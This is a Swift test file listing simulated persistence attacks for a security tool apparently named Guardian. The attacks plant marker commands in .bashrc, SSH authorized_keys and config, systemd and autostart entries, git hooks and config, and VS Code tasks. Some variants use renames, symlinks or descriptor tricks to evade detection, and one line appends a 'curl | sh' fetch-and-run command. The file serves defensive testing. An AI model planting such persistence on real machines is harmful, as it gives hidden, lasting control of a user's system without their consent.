import Foundation
import GuardianTestSupport

/// Planting commands in files another program runs or obeys later, outside the session
/// (shared/THREATS.md: persistence). Each attack prints PLANTED only when its file holds the
/// plant afterwards.
extension Attack {
    static let persistence: [Attack] = [
        Attack(name: "persist-bashrc-append", script: #"""
            echo 'curl -s x | sh # MARK-P' >> "$HOME/.bashrc"; grep -q MARK-P "$HOME/.bashrc" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // Replacing the file by rename (what editors and sed -i do) instead of writing it.
        Attack(name: "persist-zshenv-rename", script: #"""
            printf 'MARK-P\n' > "$OUT/z"; mv -f "$OUT/z" "$HOME/.zshenv"; grep -q MARK-P "$HOME/.zshenv" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-python-replace-profile", script: #"""
            python3 -c 'import os; p=os.environ["HOME"]+"/.profile"; open(p+".tmp","w").write("MARK-P\n"); os.replace(p+".tmp", p)'
            grep -q MARK-P "$HOME/.profile" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-authorized-keys", script: #"""
            mkdir -p "$HOME/.ssh"; echo 'ssh-ed25519 AAAAC3 MARK-P' >> "$HOME/.ssh/authorized_keys"; grep -q MARK-P "$HOME/.ssh/authorized_keys" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-ssh-config-proxycommand", script: #"""
            printf 'Host *\n  ProxyCommand sh -c "MARK-P"\n' >> "$HOME/.ssh/config"; grep -q MARK-P "$HOME/.ssh/config" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-systemd-user-unit", script: #"""
            d="$HOME/.config/systemd/user"; mkdir -p "$d"; printf '[Service]\nExecStart=/bin/sh -c MARK-P\n' > "$d/agent.service"; grep -q MARK-P "$d/agent.service" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-xdg-autostart", script: #"""
            d="$HOME/.config/autostart"; mkdir -p "$d"; printf '[Desktop Entry]\nExec=sh -c MARK-P\n' > "$d/a.desktop"; grep -q MARK-P "$d/a.desktop" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-git-hook", script: #"""
            git init -q "$OUT/r"; printf '#!/bin/sh\necho MARK-P\n' > "$OUT/r/.git/hooks/post-checkout"; grep -q MARK-P "$OUT/r/.git/hooks/post-checkout" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-git-config-fsmonitor", script: #"""
            git init -q "$OUT/r"; cd "$OUT/r"; git config core.fsmonitor 'sh -c MARK-P'; grep -q MARK-P .git/config && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-global-git-alias", script: #"""
            git config --global alias.st '!sh -c MARK-P'; grep -q MARK-P "$HOME/.gitconfig" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-vscode-folderopen-task", script: #"""
            mkdir -p .vscode; printf '{"tasks":[{"label":"x","command":"MARK-P","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json; grep -q MARK-P .vscode/tasks.json && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // .git/config by other means than `git config`, and places that become persistence
        // targets when a directory or symlink arrives there.
        Attack(name: "persist-git-config-direct-write", script: #"""
            git init -q "$OUT/r"; printf '[core]\n\tfsmonitor = sh -c MARK-P\n' >> "$OUT/r/.git/config"; grep -q MARK-P "$OUT/r/.git/config" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // What git itself does: a new file renamed over .git/config.
        Attack(name: "persist-git-config-lock-rename", script: #"""
            git init -q "$OUT/r"; cd "$OUT/r"; cp .git/config .git/config.lock; printf '[core]\n\tfsmonitor = sh -c MARK-P\n' >> .git/config.lock
            mv -f .git/config.lock .git/config; grep -q MARK-P .git/config && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // The same from any file, with the alias form.
        Attack(name: "persist-git-config-rename-alias", script: #"""
            git init -q "$OUT/r"; cd "$OUT/r"; { cat .git/config; printf '[alias]\n\tst = "!sh -c MARK-P"\n'; } > "$OUT/new"
            python3 -c 'import os,sys; os.rename(sys.argv[1], sys.argv[2])' "$OUT/new" .git/config; grep -q MARK-P .git/config && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // An inert replacement renamed in while the tree keeps a writable descriptor on it,
        // then written through that descriptor: the bytes that land must be the ones decided.
        Attack(name: "persist-git-config-rename-then-write-fd", script: #"""
            git init -q "$OUT/r"; cd "$OUT/r"
            python3 -c '
            import os
            f = open(".git/config.lock", "w"); f.write(open(".git/config").read()); f.flush()
            os.rename(".git/config.lock", ".git/config")
            f.write("[core]\n\tfsmonitor = sh -c MARK-P\n"); f.close()'
            grep -q MARK-P .git/config && echo PLANTED; true
            """#, goal: .output("PLANTED"), evidence: .none("the replacement was made from Guardian's copy")),
        Attack(name: "persist-git-config-link", script: #"""
            git init -q "$OUT/r"; cd "$OUT/r"; { cat .git/config; printf '[core]\n\tfsmonitor = sh -c MARK-P\n'; } > "$OUT/new"
            rm -f .git/config; ln "$OUT/new" .git/config; grep -q MARK-P .git/config && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // A whole git directory made elsewhere (its config not yet named .git/config), renamed
        // into place.
        Attack(name: "persist-gitdir-rename", script: #"""
            git init -q "$OUT/r"; cp -r "$OUT/r/.git" "$OUT/gd"; printf '[core]\n\tfsmonitor = sh -c MARK-P\n' >> "$OUT/gd/config"
            mkdir "$OUT/w"; mv "$OUT/gd" "$OUT/w/.git"; grep -q MARK-P "$OUT/w/.git/config" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // A hooks directory made elsewhere, put in place by a symlink.
        Attack(name: "persist-git-hooks-symlink", script: #"""
            git init -q "$OUT/r"; mkdir "$OUT/h"; printf '#!/bin/sh\necho MARK-P\n' > "$OUT/h/post-checkout"
            rm -rf "$OUT/r/.git/hooks"; ln -s "$OUT/h" "$OUT/r/.git/hooks"; grep -q MARK-P "$OUT/r/.git/hooks/post-checkout" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // An autostart directory made elsewhere and renamed into place.
        Attack(name: "persist-autostart-dir-rename", script: #"""
            mkdir -p "$OUT/as" "$HOME/.config"; printf '[Desktop Entry]\nExec=sh -c MARK-P\n' > "$OUT/as/a.desktop"
            mv "$OUT/as" "$HOME/.config/autostart"; grep -q MARK-P "$HOME/.config/autostart/a.desktop" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // Git directories not called .git, known by what they hold: a bare repository (a push to
        // it runs its hooks), and the git directory a work tree's .git file points at.
        Attack(name: "persist-bare-repo-hook", script: #"""
            git init -q --bare "$OUT/srv.git"; printf '#!/bin/sh\necho MARK-P\n' > "$OUT/srv.git/hooks/post-receive"
            grep -q MARK-P "$OUT/srv.git/hooks/post-receive" && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        Attack(name: "persist-gitdir-file-config", script: #"""
            git init -q "$OUT/r"; mv "$OUT/r/.git" "$OUT/gd"; printf 'gitdir: %s\n' "$OUT/gd" > "$OUT/r/.git"
            printf '[core]\n\tfsmonitor = sh -c MARK-P\n' >> "$OUT/gd/config"; git -C "$OUT/r" config core.fsmonitor | grep -q MARK-P && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // The settings written first into an ordinary directory, which then becomes a git
        // directory (git init keeps them) that a .git file points at.
        Attack(name: "persist-gitdir-config-first", script: #"""
            mkdir -p "$OUT/gd" "$OUT/w"; printf '[core]\n\tfsmonitor = sh -c MARK-P\n' > "$OUT/gd/config"
            git init -q --bare "$OUT/gd"; printf 'gitdir: %s\n' "$OUT/gd" > "$OUT/w/.git"
            git -C "$OUT/w" config core.fsmonitor | grep -q MARK-P && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event),
        // A file the user's git configuration includes is git configuration.
        Attack(name: "persist-git-include-target", script: #"""
            printf '[core]\n\tfsmonitor = sh -c MARK-P\n' >> "$HOME/dotfiles/gitconfig"; git config --includes --global core.fsmonitor | grep -q MARK-P && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event, setup: { w in
                try FileManager.default.createDirectory(atPath: w.home + "/dotfiles", withIntermediateDirectories: true)
                try w.write("[include]\n\tpath = ~/dotfiles/gitconfig\n", to: w.home + "/.gitconfig")
                try w.write("[user]\n\tname = Ada\n", to: w.home + "/dotfiles/gitconfig")
                return Prepared()
            }),
        // A program named like a command in a directory the user's shell searches first.
        Attack(name: "persist-command-dir-shadow", script: #"""
            mkdir -p "$HOME/.local/bin"; printf '#!/bin/sh\necho MARK-P\n' > "$HOME/.local/bin/ls"; chmod +x "$HOME/.local/bin/ls"
            ls | grep -q MARK-P && echo PLANTED
            """#, goal: .output("PLANTED"), evidence: .event, setup: { w in
                Prepared(env: ["PATH": w.home + "/.local/bin:" + (w.environment["PATH"] ?? "/usr/bin:/bin")])
            }),
    ]
}
